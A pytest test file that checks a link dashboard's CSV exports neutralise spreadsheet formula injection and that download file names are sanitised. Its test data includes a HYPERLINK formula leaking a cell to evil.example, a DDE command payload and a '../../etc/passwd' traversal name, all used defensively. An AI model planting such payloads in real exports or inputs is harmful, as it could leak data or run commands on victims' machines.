"""Every download the dashboard hands out: CSV exports a spreadsheet opens as plain data,
and file names that survive accents, quotes and slashes (macondo/downloads.py)."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from urllib.parse import unquote

import pytest
import time_machine

from analytics.reports.exports import RAW_COLUMNS, raw_clicks, raw_clicks_csv
from analytics.reports.periods import Period, Scope
from analytics.tests.factories import ClickFactory
from links.tests.factories import ClientFactory, LinkFactory
from macondo.downloads import attachment, csv_blocks, safe_cell

NOW = datetime(2026, 6, 15, 12, 30, tzinfo=UTC)

# What visitors and colleagues can type where an export shows it (OWASP "CSV Injection").
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    " =1",
    '  "=1',
    "\n@SUM(1)",
    "-5",
]
HARMLESS = ["Mozilla/5.0 (X11; Linux x86_64)", "https://example.com/?a=-1", "a=b", "5%", ""]


@pytest.fixture
def signed_in(client, owner):
    client.force_login(owner)
    return client


@pytest.fixture
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield


def body(response):
    return b"".join(response.streaming_content).decode()


def rows_of(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def quoted(value):
    return '"' + value.replace('"', '""') + '"'


def saved_names(header):
    """(ASCII name, UTF-8 name) a browser saves a Content-Disposition download as."""
    kind, *params = header.split("; ")
    assert kind == "attachment"
    values = dict(param.split("=", 1) for param in params)
    ascii_name = values["filename"]
    assert ascii_name.startswith('"') and ascii_name.endswith('"')
    ascii_name = ascii_name[1:-1]
    if "filename*" not in values:
        return ascii_name, ascii_name
    charset, _language, encoded = values["filename*"].split("'", 2)
    assert charset == "UTF-8"
    return ascii_name, unquote(encoded, encoding="utf-8", errors="strict")


@pytest.mark.parametrize("payload", FORMULAS)
def test_text_that_would_run_as_a_formula_gets_a_leading_quote(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [*HARMLESS, -5, -2.5, 0, None, True, NOW])
def test_other_text_and_every_non_text_value_is_written_as_it_is(value):
    assert safe_cell(value) == value


def test_text_cells_are_quoted_and_numbers_are_not():
    text = b"".join(csv_blocks([["-5", -5, "a;=1", None]])).decode()
    assert text == '"\'-5",-5,"a;=1",""\r\n'


@pytest.mark.parametrize("payload", FORMULAS)
def test_the_raw_click_export_neutralises_visitor_text(signed_in, frozen, payload):
    link = LinkFactory()
    ClickFactory(
        link=link, timestamp=NOW - timedelta(hours=1), user_agent=payload, referrer=payload
    )
    response = signed_in.get(f"/dashboard/links/{link.pk}/clicks.csv")
    text = body(response)
    [row] = rows_of(text)
    assert row["user_agent"] == row["referrer"] == "'" + payload
    assert row["link__short_code"] == link.short_code
    assert quoted("'" + payload) in text


def test_the_database_and_python_write_the_same_safe_text(db, frozen):
    """PostgreSQL writes the raw-click CSV (COPY); the quick start's SQLite goes through
    csv_blocks: both must neutralise the same cells the same way."""
    link = LinkFactory()
    edges = ["\v=1", " \f+1", "'=1", "=", "-", "é=1", "A=1", "\tok", " \tok"]
    for payload in FORMULAS + HARMLESS + edges:
        ClickFactory(link=link, timestamp=NOW - timedelta(hours=1), user_agent=payload)
    period = Period(NOW - timedelta(days=1), NOW)
    scope = Scope(link_id=link.pk)
    by_database = b"".join(raw_clicks_csv(scope, period)).decode()
    by_python = b"".join(csv_blocks(raw_clicks(scope, period))).decode()
    column = RAW_COLUMNS.index("user_agent")

    def user_agents(text):
        return sorted(row[column] for row in csv.reader(io.StringIO(text, newline="")))

    assert user_agents(by_database) == user_agents(by_python)
    assert sorted(safe_cell(p) for p in FORMULAS + HARMLESS + edges) == user_agents(by_database)


@pytest.mark.parametrize("payload", FORMULAS)
def test_the_report_export_neutralises_text_and_keeps_counts_as_numbers(signed_in, frozen, payload):
    link = LinkFactory()
    ClickFactory.create_batch(
        2, link=link, timestamp=NOW - timedelta(hours=1), browser=payload, os=payload
    )
    response = signed_in.get(f"/dashboard/links/{link.pk}/report.csv?range=7d")
    text = body(response)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert ["browsers", "'" + payload, "2", "", ""] in rows
    assert ["os", "'" + payload, "2", "", ""] in rows
    neutralised = quoted("'" + payload)
    assert f'"browsers",{neutralised},2,"",""' in text
    assert '"total","",2,0,1' in text


@pytest.mark.parametrize("payload", FORMULAS)
def test_the_link_list_export_neutralises_names_and_keeps_counts_as_numbers(signed_in, payload):
    link = LinkFactory(name=payload, client=ClientFactory(name=payload))
    ClickFactory.create_batch(3, link=link)
    response = signed_in.get("/dashboard/links/export.csv")
    text = body(response)
    [row] = rows_of(text)
    assert row["name"] == "'" + payload
    # Client names are stored trimmed, so "\t=1" arrives as "=1": still a formula.
    link.client.refresh_from_db()
    assert row["client"] == "'" + link.client.name
    assert row["human_clicks_in_period"] == "3"
    assert text.rstrip("\r\n").endswith(f"{quoted(link.user.email)},3")


@pytest.mark.parametrize(
    ("name", "ascii_name", "utf8_name"),
    [
        (
            'clicks-Café "Aroma" / Norte',
            "clicks-Cafe-Aroma-Norte.csv",
            "clicks-Café-Aroma-Norte.csv",
        ),
        ("qr-Promo_24.v2~x", "qr-Promo_24.v2~x.csv", "qr-Promo_24.v2~x.csv"),
        ("links-20260615-1230", "links-20260615-1230.csv", "links-20260615-1230.csv"),
        ("report-Клиент-20260615", "report-20260615.csv", "report-Клиент-20260615.csv"),
        ("a\\b\r\nc\x00d", "a-b-c-d.csv", "a-b-c-d.csv"),
        ("../../etc/passwd", "etc-passwd.csv", "etc-passwd.csv"),
        ("Straße 日本", "Strae.csv", "Straße-日本.csv"),
        ('"/"', "download.csv", "download.csv"),
    ],
)
def test_download_names_follow_rfc_6266_with_a_safe_ascii_fallback(name, ascii_name, utf8_name):
    header = attachment(name, "csv")
    assert header.isascii()
    assert saved_names(header) == (ascii_name, utf8_name)


def test_csv_downloads_keep_a_client_name_with_accents_quotes_and_a_slash(signed_in, frozen):
    client = ClientFactory(name='Café "Aroma" / Norte')
    ClickFactory(link=LinkFactory(client=client), timestamp=NOW - timedelta(hours=1))
    for what in ("clicks", "report"):
        response = signed_in.get(f"/dashboard/clients/{client.pk}/{what}.csv?range=7d")
        ascii_name, utf8_name = saved_names(response["Content-Disposition"])
        assert re.fullmatch(rf"{what}-Café-Aroma-Norte-\d{{8}}-\d{{8}}\.csv", utf8_name)
        assert ascii_name == utf8_name.replace("é", "e")
        assert rows_of(body(response))


def test_the_link_list_export_is_named_after_the_time_it_was_taken(signed_in, frozen):
    response = signed_in.get("/dashboard/links/export.csv")
    assert saved_names(response["Content-Disposition"]) == (
        "links-20260615-1230.csv",
        "links-20260615-1230.csv",
    )


@pytest.mark.parametrize("fmt", ["svg", "png"])
def test_qr_downloads_are_named_after_the_exact_short_code(signed_in, fmt):
    link = LinkFactory(short_code="Menu_v2.x~y")
    response = signed_in.get(f"/dashboard/links/{link.pk}/qr.{fmt}?download=1")
    assert saved_names(response["Content-Disposition"]) == (f"qr-{link.short_code}.{fmt}",) * 2
